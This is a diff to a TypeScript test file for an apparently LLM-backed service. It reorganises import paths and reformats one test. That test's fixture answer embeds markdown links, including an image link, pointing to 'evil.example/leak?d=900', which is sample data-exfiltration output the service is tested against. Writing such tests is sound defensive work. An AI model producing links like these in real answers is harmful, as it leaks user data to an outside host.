@@ -1,8 +1,12 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { ManualClock } from '../../core/clock.ts';
-import { complete, refuse, startLanguageModel } from '../../testing/language-model-server.ts';
-import { request } from '../../testing/api-user.ts';
+import {
+  complete,
+  refuse,
+  startLanguageModel,
+} from '../../testing/servers/language-model-server.ts';
+import { request } from '../../testing/clients/api-user.ts';
 import { startService } from '../../testing/start-service.ts';
 import type { TestService } from '../../testing/start-service.ts';
 
@@ -174,7 +178,9 @@ test('a model answers from what was found; its made-up sources are dropped', asy
 });
 
 test('a model gives nothing away by an address, and several numbers in one mark are several', async () => {
-  const answer = 'Nine hundred euros [2, 1, 7]. ![x](http://evil.example/leak?d=900) See [it](//evil.example/900), http://porto.example/roof.'; // prettier-ignore
+  const answer =
+    'Nine hundred euros [2, 1, 7]. ![x](http://evil.example/leak?d=900) See ' +
+    '[it](//evil.example/900), http://porto.example/roof.';
   await using model = await startLanguageModel((_, response) =>
     complete(response, JSON.stringify({ answer, sources: [] })),
   );
